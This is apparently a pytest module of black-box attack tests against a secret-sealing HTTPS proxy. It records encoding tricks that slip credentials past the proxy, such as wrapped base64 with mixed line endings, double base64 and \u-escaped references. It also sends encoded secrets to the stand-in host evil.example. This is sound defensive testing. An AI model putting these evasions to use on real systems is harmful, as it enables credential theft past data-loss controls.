"""Third black-box attack on keyveil, written from SPEC.md only, through a real proxy.

Every test drives a real mitmdump running keyveil (tests/conftest.py helpers)
toward the real local TLS upstream and judges what the upstream received or
what the client got back, decoding with the standard library only. Nothing
here imports keyveil.

``test_finding_*``: one way keyveil breaks the SPEC; it asserts what the SPEC
requires, so it fails while keyveil is wrong. ``test_holds_*``: attacks that
did not get through, kept as regression guards. Findings of
tests/test_attack.py and tests/test_attack2.py are not repeated. Values are
generated per run.
"""

from __future__ import annotations

import base64
import gzip
import json
import random
import secrets
import string
import time
import urllib.parse

import httpx
import pytest

from tests import attack_oracle as oracle
from tests import infra
from tests.infra import wsclient
from tests.attack_oracle import client, rand, received
from tests.conftest import keyveil, keyveil_proxy, make_home

pytestmark = pytest.mark.timeout(180)

RULES = """\
version: 1
providers:
  builtin: true
secrets:
  github/pat:
    hosts: [api.github.com]
    inject: [{header: Authorization}, {basic_auth: true}]
  gitlab/token:
    hosts: [gitlab.test.keyveil]
    inject: [{query: private_token}, {body: true}, {path: true}]
  ws/token:
    hosts: [ws.test.keyveil]
    inject: [{websocket: true}]
  short/v:
    hosts: [short.test.keyveil]
    inject: [{header: x-short}, {body: true}]
  odd/q:
    hosts: [odd.test.keyveil]
    inject: [{header: x-odd}, {body: true}]
  long/tok:
    hosts: [long.test.keyveil]
    inject: [{header: Authorization}, {body: true}]
policy:
  max_body_bytes: {max_body}
"""

REF = "{{secret:github/pat}}"
# A short value among long ones, one with every JSON/percent/base64-special
# character, a space and a non-ASCII letter, and a long URL-safe one.
NAMES = ("short/v", "odd/q", "long/tok", "github/pat")


@pytest.fixture(scope="module")
def kv(tmp_path_factory):
    setup = make_home(tmp_path_factory.mktemp("attack3"), rules=RULES)
    extra = {
        "short/v": "s8" + secrets.token_hex(3),
        "odd/q": 'q"\\/+% \u00e9' + secrets.token_hex(5),
        "long/tok": "lt_" + secrets.token_urlsafe(60),
    }
    for name, value in extra.items():
        r = keyveil(setup.env, "secret", "set", name, stdin=value.encode() + b"\n")
        assert r.returncode == 0, r.stderr
        setup.values[name] = value.encode()
    return setup


@pytest.fixture(scope="module")
def proxy(kv, upstream, tmp_path_factory):
    work = tmp_path_factory.mktemp("attack3-proxy")
    with keyveil_proxy(upstream, work, kv, flow_detail=1) as p:
        yield p


# ============================================================================ oracle
#
# A value "got through" when the bytes hold it under up to three layers of the
# SPEC §3 forms, decoded with the standard library only (tests/attack_oracle.py,
# anywhere=True): besides the second attack's decoders, JSON escapes undone
# wherever they stand (bare quotes do not fool it) and base64 decoded the way
# GNU `base64 -d` does, "=" inside a run included.


def holds(data: bytes, value: bytes, depth: int = 3) -> bool:
    return oracle.holds(data, value, depth, anywhere=True)


def ws_received(up) -> list[bytes]:
    return [m.data if isinstance(m.data, bytes) else m.data.encode() for m in up.ws_messages if m.direction == "client"]



def post(proxy, up, body: bytes, url: str = "https://api.openai.com/v1/x", headers=None):
    """POST BODY through the proxy; the response and the body the upstream got (None if it got nothing)."""
    up.reset()
    with client(proxy) as c:
        r = c.post(url, content=body, headers={"content-type": "text/plain", **(headers or {})})
    recs = up.requests
    return r, (recs[0].body if recs else None)


def wrap(e: bytes, width: int, nl: bytes = b"\n") -> bytes:
    return nl.join(e[i : i + width] for i in range(0, len(e), width))


def b64w(b: bytes, width: int | None = None, nl: str = "\n", urlsafe: bool = False, pad: bool = True) -> str:
    e = (base64.urlsafe_b64encode if urlsafe else base64.b64encode)(b)
    if not pad:
        e = e.rstrip(b"=")
    return (wrap(e, width, nl.encode()) if width else e).decode()


def b64_flat(b: bytes) -> bytes:
    b = b.replace(b"\r", b"").replace(b"\n", b"").replace(b"-", b"+").replace(b"_", b"/")
    return base64.b64decode(b + b"=" * (-len(b) % 4))


def jesc(s: str, rng: random.Random, p: float = 0.5) -> str:
    """S as a JSON string body, a random share of its characters \\u-escaped in either case."""
    out = []
    for ch in s:
        if rng.random() < p:
            cp = ord(ch)
            if cp > 0xFFFF:
                cp -= 0x10000
                out.append("\\u%04x\\u%04X" % (0xD800 + (cp >> 10), 0xDC00 + (cp & 0x3FF)))
            else:
                out.append(rng.choice(["\\u%04x", "\\u%04X"]) % cp)
        else:
            out.append({"/": "\\/"}.get(ch) or json.dumps(ch, ensure_ascii=False)[1:-1])
    return "".join(out)



# ============================================================================ findings
#
# H1. SPEC §3 (base64 "also wrapped at line breaks as MIME and PEM write it"),
# I1, I2, I3. A MIME-wrapped base64 block holding a value is not sealed when
# the paragraph before it (after a blank line) ends with a lone full-width
# base64 line - the common shape of two attachments, a short one that fits on
# one line and a longer one, e.g. "Two attachments:\n\n<76 chars>\n\n<block
# wrapped at 76>". The block passes byte for byte, at every width (12 ... 120),
# LF or CRLF: toward a provider over HTTP/1.1, HTTP/2, gzip and WebSocket,
# toward an unbound host (forwarded instead of plaintext_egress), and back to
# the client in a response, whole or streamed.


def _two_attachments(v: bytes, width: int = 76, nl: bytes = b"\r\n") -> bytes:
    first = base64.b64encode(secrets.token_bytes(width // 4 * 3))  # exactly one full line
    second = base64.b64encode(b"x" * (width // 4 * 3 - 6) + v + b"y" * 40)  # the value crosses a line break
    return b"Two attachments:" + nl + nl + first + nl + nl + wrap(second, width, nl) + nl


@pytest.mark.parametrize("width,nl", [(76, b"\r\n"), (64, b"\n"), (16, b"\n"), (120, b"\r\n")])
def test_finding_wrapped_base64_after_a_one_line_base64_paragraph_is_sealed(proxy, up, kv, width, nl):
    v = kv.values["github/pat"]
    body = _two_attachments(v, width, nl)
    r, got = post(proxy, up, body)
    assert r.status_code == 200
    # today: got == body, the value's base64 reaches api.openai.com untouched
    assert not holds(got, v), "the value reached api.openai.com in MIME-wrapped base64"
    blocks = got.split(nl + nl)
    assert blocks[:2] == body.split(nl + nl)[:2]
    assert b64_flat(blocks[2]) == b"x" * (width // 4 * 3 - 6) + REF.encode() + b"y" * 40


@pytest.mark.parametrize("where", ["http2", "gzip", "websocket", "unbound-host", "response", "response-streamed"])
def test_finding_wrapped_base64_after_a_one_line_base64_paragraph_other_carriers(proxy, up, kv, where):

    v = kv.values["github/pat"]
    body = _two_attachments(v)
    up.reset()
    if where == "http2":
        ctx = infra.client_ssl_context(proxy.ca_cert, h2_first=True)
        with httpx.Client(proxy=proxy.url, verify=ctx, http2=True, trust_env=False, timeout=30) as c:
            r = c.post("https://api.openai.com/v1/x", content=body)
        assert r.http_version == "HTTP/2" and up.requests[0].http_version == "2"
        assert not holds(received(up), v), "the value reached api.openai.com over HTTP/2"
    elif where == "gzip":
        r, got = post(proxy, up, gzip.compress(body), headers={"content-encoding": "gzip"})
        assert r.status_code == 200
        assert not holds(gzip.decompress(got), v), "the value reached api.openai.com in a gzip body"
    elif where == "websocket":
        ctx = infra.client_ssl_context(proxy.ca_cert)
        with wsclient.connect("wss://api.openai.com/ws", proxy=proxy.url, ssl=ctx, open_timeout=10) as ws:
            ws.send(body.decode())
            ws.recv(timeout=10)
        (got,) = ws_received(up)
        assert not holds(got, v), "the value reached api.openai.com in a WebSocket message"
    elif where == "unbound-host":
        r, got = post(proxy, up, body, url="https://evil.example/upload")
        assert got is None or not holds(got, v), "the value reached evil.example (SPEC I2)"
        assert (r.status_code, r.headers.get("x-keyveil-block")) == (403, "plaintext_egress")
    else:
        cut = len(body) // 2
        chunks = [body] if where == "response" else [body[:cut], body[cut:]]
        up.set_response("/respond", 200, [("content-type", "text/plain")], chunks, 0.05)
        with client(proxy) as c:
            r = c.get("https://api.github.com/respond")
        assert r.status_code == 200
        assert not holds(r.content, v), "the value came back to the client (SPEC I3)"


# H1b. Same trigger, both paragraphs holding a value: the lone line is sealed,
# but the blank line between the two is dropped, the two runs are merged and
# re-encoded as one with "==" in the middle, and the second value is still
# there: GNU `base64 -d` on what api.openai.com got prints it. SPEC §3: the
# carrier "decodes to exactly what it held before, with V replaced".


def test_finding_two_base64_paragraphs_stay_two_and_both_values_are_sealed(proxy, up, kv):
    v = kv.values["short/v"]
    ref = b"{{secret:short/v}}"
    first_plain, second_plain = v + b"tail", b"xxxxx" + v  # 12 bytes: one line of exactly 16 characters
    first = base64.b64encode(first_plain)
    body = first + b"\n\n" + wrap(base64.b64encode(second_plain), 16) + b"\n"
    r, got = post(proxy, up, body)
    assert r.status_code == 200
    # today: b"e3tzZWNy...\ncnQvdn19dGFpbHh4\neHh4czhmNzRiYg==\nYQ==\n": one run, the second value split by "=="
    assert not holds(got, v), got
    one, two = got.split(b"\n\n")
    assert b64_flat(one) == first_plain.replace(v, ref)
    assert b64_flat(two) == second_plain.replace(v, ref)


# H2. SPEC §3: "a value is recognised however its carrier encoded it". A
# wrapped base64 block whose line breaks mix LF and CRLF (a PEM or MIME text
# pasted through tools that normalise some lines and not others) is not
# decoded: a value whose base64 crosses both kinds of break passes unchanged.
# Every base64 decoder (Python, GNU, Node) ignores the difference.


@pytest.mark.parametrize("width", [20, 40])
def test_finding_wrapped_base64_with_mixed_line_endings_is_sealed(proxy, up, kv, width):
    v = kv.values["github/pat"]
    plain = b"x" * 9 + v + b"y" * 40
    lines = wrap(base64.b64encode(plain), width).split(b"\n")
    body = lines[0] + b"".join((b"\r\n" if i % 2 else b"\n") + line for i, line in enumerate(lines[1:]))
    r, got = post(proxy, up, body)
    assert r.status_code == 200
    assert not holds(got, v), "the value reached api.openai.com in base64 wrapped with mixed LF/CRLF"
    assert base64.b64decode(got) == plain.replace(v, REF.encode())


# H3. SPEC §3: "References are recognised through the same layers ... for
# injection and enforcement alike", and "two layers of the above in any
# order". A value in base64 of base64 is sealed (test_holds_values_in_every_form
# _toward_an_unbound_host), but the reference in base64 of base64 in an auth
# position toward an unbound host is forwarded, where a single base64 layer is
# blocked (unbound_reference).


@pytest.mark.parametrize("header,fmt", [("authorization", "Basic {}"), ("x-api-key", "{}"), ("cookie", "sid={}")])
def test_finding_reference_in_base64_of_base64_in_an_auth_position_is_blocked(proxy, up, header, fmt):
    once = base64.b64encode(("u:" + REF).encode())
    with client(proxy) as c:
        single = c.get("https://evil.example/echo", headers={header: fmt.format(once.decode())})
        double = c.get("https://evil.example/echo", headers={header: fmt.format(base64.b64encode(once).decode())})
    assert (single.status_code, single.headers.get("x-keyveil-block")) == (403, "unbound_reference")
    # today: 200, forwarded to evil.example
    assert (double.status_code, double.headers.get("x-keyveil-block")) == (403, "unbound_reference")
    assert up.requests == []


# H4. SPEC §3: a value is recognised in a JSON string "with any of its
# characters escaped as JSON allows: \uXXXX ... for any character", and
# "References are recognised through the same layers ... for injection". With
# `body: true`, a reference whose braces (or braces, colon and slash) are
# \u-escaped is injected, but the same reference with every character, only
# its colon, or only one letter escaped is forwarded as it is.


@pytest.mark.parametrize("escaped", ["every character", "the colon", "one letter"])
def test_finding_u_escaped_reference_in_a_json_body_is_injected(proxy, up, kv, escaped):
    v = kv.values["gitlab/token"].decode()
    ref = "{{secret:gitlab/token}}"
    pred = {"every character": lambda c: True, "the colon": lambda c: c == ":", "one letter": lambda c: c == "s"}[escaped]
    braces = '{"t": "' + "".join("\\u%04x" % ord(c) if c in "{}" else c for c in ref) + '"}'
    body = '{"t": "' + "".join("\\u%04X" % ord(c) if pred(c) else c for c in ref) + '"}'
    got = []
    for b in (braces, body):
        r, rec = post(proxy, up, b.encode(), url="https://gitlab.test.keyveil/api", headers={"content-type": "application/json"})
        assert r.status_code == 200
        got.append(json.loads(rec)["t"])
    assert got[0] == v
    assert got[1] == v, "the \\u-escaped reference was forwarded, not injected: " + body


# ============================================================================ holds


def _blocks_for(v: bytes, w: int) -> list[bytes]:
    """Plain payloads putting V at the start, at the end with the padding alone
    on the next line, right after a line break, and across one."""
    out = [v + b"tail", b"x" * 5 + v]
    for pre in range(3 * w + 3):
        n = pre + len(v)
        pads, elen = (-n) % 3, 4 * ((n + 2) // 3)
        if pads and elen % w == pads and elen > w:
            out.append(b"p" * pre + v)
            break
    if w % 4 == 0:
        out.append(b"q" * (w // 4 * 3) + v + b"zz")
    out.append(b"r" * max(0, w * 3 // 4 - 2) + v + b"s" * 7)
    return out


@pytest.mark.parametrize("urlsafe", [False, True])
def test_holds_wrapped_base64_fast_paths(proxy, up, kv, urlsafe):
    """Widths 12-120 (odd, even, not a multiple of 4), LF and CRLF, each value
    at the run's start, end, after a line break, across one, padding on its own
    line; blocks separated by a "." line. Each block comes back at its width and
    decodes to its payload with the value replaced."""
    enc = base64.urlsafe_b64encode if urlsafe else base64.b64encode
    for w in (12, 13, 16, 19, 20, 24, 57, 60, 64, 72, 76, 100, 119, 120):
        for nl in (b"\n", b"\r\n"):
            payloads = [(kv.values[n], b"{{secret:%s}}" % n.encode(), p) for n in NAMES for p in _blocks_for(kv.values[n], w)]
            blocks = [wrap(enc(p), w, nl) for _, _, p in payloads]
            sep = nl + b"." + nl
            r, got = post(proxy, up, sep.join(blocks) + nl)
            assert r.status_code == 200
            outs = got[: -len(nl)].split(sep)
            assert len(outs) == len(blocks), (w, nl)
            for (v, ref, p), blk, o in zip(payloads, blocks, outs):
                assert not holds(o, v), (w, nl, blk)
                assert b64_flat(o) == p.replace(v, ref), (w, nl, blk, o)
                if nl in blk:  # it was wrapped: it still is, at the same width
                    lines = o.split(nl)
                    assert all(len(x) == w for x in lines[:-1]) and 0 < len(lines[-1]) <= w, (w, nl, o)
                    assert o.count(b"\n") == o.count(nl), (w, nl, o)


def test_holds_json_escapes_with_bare_quotes_and_many_short_strings(proxy, up, kv):
    """The value partly \\u-escaped after an odd number of bare quotes, after
    hundreds of short strings, outside any string, in an unterminated string,
    twice in one array with escaped quotes between, and as NDJSON and SSE."""
    rng = random.Random(secrets.randbits(32))
    for name in NAMES:
        v = kv.values[name]
        s, ref = v.decode(), "{{secret:%s}}" % name
        e = jesc(s, rng)
        cases = [
            'He is 5" tall. token "' + e + '" ok',
            'a " b " c " key: "' + e + '"',
            '"x\\\\" "' + e + '"',
            ",".join('"%d"' % i for i in range(300)) + ',"' + e + '"' + ',"z"' * 50,
            '""' * 200 + '"' + '"a",' * 100 + '"' + e + '"',
            "prefix" + '"' * 3 + e + '"',
            "token=" + e,
            '{"k": "' + e,
            '["' + e + '", "\\"", "\\\\", "' + e + '"]',
            "\n".join(json.dumps({"i": i, "t": s if i == 7 else "x"}) for i in range(20)),
            "".join("data: " + json.dumps({"d": s if i == 3 else '"'}) + "\n\n" for i in range(6)),
        ]
        for body in cases:
            r, got = post(proxy, up, body.encode())
            assert r.status_code == 200
            assert not holds(got, v), (name, body[:200], got[:300])
            assert ref.encode() in oracle.unescape_anywhere(got), (name, got[:300])
        # valid JSON stays valid and decodes to the reference
        doc = json.dumps([",".join(['"'] * 7), "5\" x", {"k": "a " + s + " b"}, [s, '"', "\\"]] + ['"q"'] * 200)
        r, got = post(proxy, up, doc.encode(), headers={"content-type": "application/json"})
        assert json.loads(got) == json.loads(doc.replace(json.dumps(s)[1:-1], ref))


def test_holds_two_layer_carriers_with_bare_quotes(proxy, up, kv):
    """Base64 of JSON-escaped text (one line, wrapped at 16 and 13/CRLF),
    percent of base64 (also wrapped), percent of JSON, JSON-escaped percent,
    JSON in JSON after bare quotes, base64 with \\/ and escaped CRLF in JSON,
    URL-safe unpadded base64 of JSON, base64 of base64, base64 of percent,
    JSON in a form field: none passes unchanged, none holds the value."""
    rng = random.Random(secrets.randbits(32))
    for name in NAMES:
        v = kv.values[name]
        s = v.decode()
        e = jesc(s, rng)
        pq = "".join(rng.choice(["%%%02x", "%%%02X"]) % x for x in v)
        cases = [
            b64w(('5" x "' + e + '" y').encode()),
            b64w(('{"a":"' + e + '"}').encode(), 16),
            b64w(('{"a":"' + e + '"}').encode(), 13, "\r\n"),
            "q=" + urllib.parse.quote(b64w(b"u:" + v), safe=""),
            "q=" + urllib.parse.quote(b64w(b"x" * 30 + v + b"y" * 40, 20, "\r\n"), safe=""),
            "q=" + urllib.parse.quote('{"a":"' + e + '"}', safe=""),
            '{"u":"https://h/?q=' + jesc(pq, rng) + '"}',
            json.dumps({"a": '5" x "' + jesc(s, rng).replace("\\", "\\\\") + '"'}),
            json.dumps({"d": b64w(b"zz" + v + b"q" * 50, 19, "\r\n")}).replace("/", "\\/"),
            b64w(json.dumps({"k": s}).encode(), urlsafe=True, pad=False),
            b64w(b64w(b"u:" + v).encode()),
            b64w(("a=" + pq).encode()),
            "a=1&j=" + urllib.parse.quote_plus(json.dumps({"k": s})) + "&b=2",
            ",".join('"%d"' % i for i in range(200)) + ' "' + b64w(json.dumps({"k": s}).encode()) + '"',
        ]
        for body in cases:
            r, got = post(proxy, up, body.encode())
            assert r.status_code == 200
            assert got != body.encode() and not holds(got, v), (name, body[:200])


def test_holds_references_in_base64_in_auth_headers(proxy, up, kv):
    """Toward an unbound host, a reference in base64 (every offset, both
    alphabets, padded or not), base64 of the JSON- or percent-escaped
    reference, base64 with text after, percent of base64, `\\/` and lower-case
    percent forms, in Basic, Bearer, x-api-key, Cookie and *token* headers is
    blocked. Toward the bound host, Basic credentials in any of these shapes
    are injected as standard padded base64 and the echo comes back sealed."""
    variants = [b64w((pre + REF).encode(), urlsafe=us, pad=pad)
                for pre in ("", "u", "uu", "user:", "x-access-token:") for us in (False, True) for pad in (True, False)]
    variants += [
        b64w(("u:" + REF.replace("/", "\\/")).encode()),
        b64w(b"u:%7B%7Bsecret:github%2Fpat%7D%7D"),
        b64w(("u:" + REF + " and more text after it").encode()),
        urllib.parse.quote(b64w(("u:" + REF).encode()), safe=""),
        REF.replace("/", "\\/"),
        "%7b%7bsecret:github%2fpat%7d%7d",
    ]
    with client(proxy) as c:
        for val in variants:
            for header, fmt in (("authorization", "Basic {}"), ("authorization", "Bearer {}"), ("x-api-key", "{}"),
                                ("cookie", "sid={}"), ("x-my-token", "{}")):
                r = c.get("https://evil.example/echo", headers={header: fmt.format(val)})
                assert (r.status_code, r.headers.get("x-keyveil-block")) == (403, "unbound_reference"), (header, val)
        assert up.requests == []
        pat = kv.values["github/pat"]
        for user in ("u", "uu", "x-access-token"):
            for us in (False, True):
                for pad in (True, False):
                    up.reset()
                    cred = b64w((user + ":" + REF).encode(), urlsafe=us, pad=pad)
                    r = c.get("https://api.github.com/echo", headers={"authorization": "Basic " + cred})
                    assert r.status_code == 200, (user, us, pad)
                    assert up.requests[0].header("authorization") == "Basic " + base64.b64encode(user.encode() + b":" + pat).decode()
                    assert not holds(r.content, pat) and not holds(b"\n".join(v for _, v in r.headers.raw), pat)


def test_holds_values_in_every_form_toward_an_unbound_host(proxy, up, kv):
    """Raw, base64 (standard, URL-safe unpadded, of base64), JSON in a header,
    percent, percent of base64, base64 of JSON; in a header, the query, the
    path, a JSON body and a form body: 403 plaintext_egress, nothing forwarded,
    nothing of the value in the block response."""
    rng = random.Random(secrets.randbits(32))
    with client(proxy) as c:
        for name in NAMES:
            v = kv.values[name]
            s = v.decode()
            e = jesc(s, rng)
            forms = [
                b64w(b"u:" + v), b64w(b"uu:" + v, urlsafe=True, pad=False), b64w(b64w(b"u:" + v).encode()),
                urllib.parse.quote(s, safe=""), urllib.parse.quote(b64w(b"u:" + v), safe=""),
                b64w(json.dumps({"k": s}).encode()),
            ]
            if s.isascii() and '"' not in s:
                forms.append(s)
            if e.isascii():
                forms.append('{"t":"' + e + '"}')
            for f in forms:
                for where in ("header", "query", "path", "body-json", "body-form"):
                    up.reset()
                    headers, url, body = {}, "https://evil.example/echo", None
                    if where == "header":
                        headers = {"x-note": f}
                    elif where == "query":
                        url += "?note=" + urllib.parse.quote(f, safe="")
                    elif where == "path":
                        url = "https://evil.example/a/" + urllib.parse.quote(f, safe="") + "/b"
                    elif where == "body-json":
                        body = json.dumps({"note": f}).encode()
                    else:
                        body = ("note=" + urllib.parse.quote_plus(f)).encode()
                    r = c.request("POST" if body else "GET", url, headers=headers, content=body)
                    assert (r.status_code, r.headers.get("x-keyveil-block")) == (403, "plaintext_egress"), (name, f, where)
                    assert up.requests == [] and not holds(r.content, v)


def test_holds_injection_round_trip_through_an_echo(proxy, up, kv):
    """With `body: true`, a reference in a JSON string (plain, `\\/`, inside
    text), a form field (percent-encoded or raw), text, NDJSON, JSON in a form
    field and JSON in JSON is injected encoded for its place (the upstream
    decodes the carrier to the value), and the reflected body comes back to the
    client decoding to the reference again."""
    for name, host in (("odd/q", "odd.test.keyveil"), ("gitlab/token", "gitlab.test.keyveil"),
                       ("short/v", "short.test.keyveil"), ("long/tok", "long.test.keyveil")):
        v = kv.values[name]
        s, ref = v.decode(), "{{secret:%s}}" % name
        pref = urllib.parse.quote(ref, safe="")
        cases = [
            ("application/json", json.dumps({"t": ref}), lambda b: json.loads(b)["t"]),
            ("application/json", json.dumps({"t": ref}).replace("/", "\\/"), lambda b: json.loads(b)["t"]),
            ("application/json", json.dumps({"t": "Bearer " + ref + " x"}), lambda b: json.loads(b)["t"][7:-2]),
            ("application/x-www-form-urlencoded", "a=1&t=" + pref + "&z=2", lambda b: urllib.parse.parse_qs(b.decode())["t"][0]),
            ("application/x-www-form-urlencoded", "a=1&t=" + ref + "&z=2", lambda b: urllib.parse.parse_qs(b.decode())["t"][0]),
            ("text/plain", "tok " + ref + " end", lambda b: b.decode()[4:-4]),
            ("application/x-ndjson", '{"a": 1}\n' + json.dumps({"t": ref}) + "\n", lambda b: json.loads(b.decode().split("\n")[1])["t"]),
            ("application/x-www-form-urlencoded", "j=" + urllib.parse.quote(json.dumps({"t": ref}), safe=""),
             lambda b: json.loads(urllib.parse.parse_qs(b.decode())["j"][0])["t"]),
            ("application/json", json.dumps({"w": json.dumps({"t": ref})}), lambda b: json.loads(json.loads(b)["w"])["t"]),
        ]
        for ct, body, dec in cases:
            r, got = post(proxy, up, body.encode(), url=f"https://{host}/reflect", headers={"content-type": ct})
            assert r.status_code == 200, (name, body)
            assert dec(got) == s, (name, body, got)
            assert not holds(r.content, v), (name, body)
            assert dec(r.content) == ref, (name, body, r.content)


def test_holds_scrubbed_responses_decode_to_the_reference(proxy, up, kv):
    """Responses echoing a value JSON-escaped twice, base64 wrapped at 19/CRLF
    and 76/LF, percent of base64, base64 of JSON-escaped JSON, base64 with \\/
    in JSON; in three chunks cut at random, plain, gzip, br and zstd: the client
    gets a carrier that decodes to the reference."""
    rng = random.Random(secrets.randbits(32))
    for name in ("odd/q", "long/tok", "github/pat"):
        v = kv.values[name]
        s, ref = v.decode(), "{{secret:%s}}" % name
        e = jesc(s, rng)
        cases = [
            (json.dumps({"a": json.dumps({"b": "x " + s})}), lambda b: json.loads(json.loads(b)["a"])["b"], "x " + ref),
            (b64w(b"x" * 13 + v + b"y" * 50, 19, "\r\n"), b64_flat, b"x" * 13 + ref.encode() + b"y" * 50),
            (b64w(b"x" * 13 + v + b"y" * 50, 76) + "\n", b64_flat, b"x" * 13 + ref.encode() + b"y" * 50),
            ("q=" + urllib.parse.quote(b64w(b"u:" + v), safe=""), lambda b: b64_flat(urllib.parse.unquote_to_bytes(b[2:])), b"u:" + ref.encode()),
            (b64w(('{"a":"' + e + '"}').encode()), lambda b: json.loads(b64_flat(b))["a"], ref),
            (json.dumps({"d": b64w(b"zz" + v + b"q" * 50)}).replace("/", "\\/"), lambda b: b64_flat(json.loads(b)["d"].encode()), b"zz" + ref.encode() + b"q" * 50),
        ]
        for body, dec, want in cases:
            body = body.encode()
            for ce in (None, "gzip", "br", "zstd"):
                a, b = sorted(rng.sample(range(1, len(body)), 2))
                up.reset()
                up.set_response("/respond", 200, [("content-type", "text/plain")], [body[:a], body[a:b], body[b:]], 0.02, ce)
                with client(proxy) as c:
                    r = c.get("https://api.github.com/respond")
                assert r.status_code == 200
                assert not holds(r.content, v), (name, ce, body[:80])
                assert dec(r.content) == want, (name, ce, body[:80], r.content[:200])


def test_holds_websocket_values_toward_an_unbound_or_other_secrets_host(proxy, up, kv):
    """github/pat raw, \\u-escaped, in base64, wrapped base64, percent and JSON
    in JSON, text and binary, toward ws.test.keyveil (bound for ws/token only)
    and evil.example: never forwarded."""
    import websockets.exceptions

    g = kv.values["github/pat"]
    s = g.decode()
    forms = ["t " + s, '{"a":"' + "".join("\\u%04x" % ord(c) for c in s) + '"}', "b " + b64w(b"u:" + g),
             b64w(b"x" * 7 + g + b"y" * 30, 16), "q=" + urllib.parse.quote(s, safe="").replace("_", "%5F"),
             json.dumps({"a": json.dumps({"b": s})})]
    ctx = infra.client_ssl_context(proxy.ca_cert)

    for host in ("ws.test.keyveil", "evil.example"):
        for m in forms:
            for data in (m, m.encode()):
                up.reset()
                try:
                    with wsclient.connect(f"wss://{host}/ws", proxy=proxy.url, ssl=ctx, open_timeout=10) as ws:
                        ws.send(data)
                        try:
                            echo = ws.recv(timeout=3)
                            assert not holds(echo if isinstance(echo, bytes) else echo.encode(), g)
                        except TimeoutError:
                            pass
                except websockets.exceptions.ConnectionClosed:
                    pass
                assert not any(holds(d, g) for d in ws_received(up)), (host, m[:60])


def test_holds_clean_multi_block_documents_are_forwarded_byte_for_byte(proxy, up):
    """Documents of text lines and base64 blocks of random widths (one-line,
    full-width, padded, blank lines between, the H1 shape included), LF or
    CRLF, JSON with bare quotes, gzip: no value inside, so SPEC §6 "a request
    whose body is unchanged is forwarded byte for byte"."""
    rng = random.Random(secrets.randbits(32))
    for _ in range(25):
        w = rng.choice([12, 16, 19, 20, 24, 32, 60, 64, 76])
        nl = rng.choice(["\n", "\r\n"])
        parts = []
        for _ in range(rng.randrange(2, 7)):
            if rng.random() < 0.25:
                parts.append(rng.choice(["hello", "Here it is:", "-----BEGIN DATA-----", "", "abcd", 'a "b" c "']))
            else:
                n = rng.choice([w // 4 * 3, rng.randrange(3, 200)])
                parts.append(b64w(secrets.token_bytes(n), w, nl))
            parts.append(rng.choice([nl, nl + nl]))
        body = "".join(parts).encode()
        for data, headers in ((body, {}), (gzip.compress(body), {"content-encoding": "gzip"})):
            r, got = post(proxy, up, data, headers=headers)
            assert r.status_code == 200 and got == data, body[:200]


@pytest.fixture(scope="module")
def lone(upstream, tmp_path_factory):
    """A home whose only current value is long (80+ characters): a short
    previous value of a rotated secret, and detected values of 20-40
    characters, are all shorter than every registered value."""
    rules = "version: 1\nproviders:\n  builtin: true\nsecrets:\n  long/a:\n    hosts: [a.test.keyveil]\n" \
            "    inject: [{header: Authorization}]\npolicy:\n  max_body_bytes: {max_body}\n"
    setup = make_home(tmp_path_factory.mktemp("attack3-lone"), rules=rules)
    for name in list(setup.values):
        assert keyveil(setup.env, "secret", "rm", name).returncode == 0
        setup.values.pop(name)
    old = ("o8" + secrets.token_hex(3)).encode()
    for value in (old, ("la_" + secrets.token_urlsafe(60)).encode()):  # set, then rotate
        r = keyveil(setup.env, "secret", "set", "long/a", stdin=value + b"\n")
        assert r.returncode == 0, r.stderr
    setup.values["old"] = old
    work = tmp_path_factory.mktemp("attack3-lone-proxy")
    with keyveil_proxy(upstream, work, setup, flow_detail=1) as p:
        yield setup, p


def test_holds_values_shorter_than_every_registered_value(lone, up):
    """SPEC §3 (rotation) and §3a: the previous 8-character value of a rotated
    secret, and detected values (AWS key id, GitHub PAT, a random value assigned
    to api_key) once seen, are sealed toward a provider in a short header or
    body, raw, in base64 and percent-encoded, though every registered value is
    longer than the buffer holding them."""
    setup, p = lone
    akia = "AK" + "IA" + rand(16, string.ascii_uppercase + string.digits)
    ghp = "ghp" + "_" + rand(36)
    rnd = rand(32)
    first = json.dumps({"content": "aws " + akia + " gh " + ghp, "api_key": rnd}).encode()
    r, got = post(p, up, first, headers={"content-type": "application/json"})
    assert r.status_code == 200
    assert b"{{secret:detected/aws-access-key-" in got and b"{{secret:detected/github-pat-" in got
    for val in (setup.values["old"].decode(), akia, ghp, rnd):
        v = val.encode()
        for headers, body in (
            ({"x-note": val}, b"hello"),
            ({"x-note": b64w(v)}, b"hello"),
            ({"x-note": "".join("%%%02X" % c for c in v)}, b"hello"),
            ({}, b"v " + v),
            ({}, b64w(b"u:" + v).encode()),
        ):
            r, got = post(p, up, body, headers=headers)
            assert r.status_code == 200
            assert not holds(received(up), v), (val[:4], headers, body[:10])


def test_holds_audit_log_holds_no_value(proxy, up, kv):
    """I5: after a sealed, an injected, a scrubbed and a blocked flow whose path
    held a value in percent-encoded base64 (and everything above, when the
    whole module runs), the audit log and the console hold no value."""
    v = kv.values["odd/q"]
    with client(proxy) as c:
        c.post("https://api.openai.com/v1/x", content=b"k " + v)
        c.get("https://api.github.com/echo", headers={"authorization": "Bearer " + REF})
        c.get("https://evil.example/x/" + urllib.parse.quote(b64w(b"u:" + v), safe="") + "/y")
    deadline = time.monotonic() + 20
    while True:  # audit lines are appended when flows end, and flushed twice a second
        audit = b"".join(f.read_bytes() for f in (kv.home / "audit").glob("*"))
        if (b"plaintext_egress" in audit and b'"injected"' in audit) or time.monotonic() > deadline:
            break
        time.sleep(0.05)
    assert b'"injected"' in audit and b"plaintext_egress" in audit
    for line in audit.splitlines():
        for name in NAMES:
            assert not holds(line, kv.values[name], depth=2), (name, line[:200])
    out = proxy.output().encode()
    for name in NAMES:
        assert kv.values[name] not in out
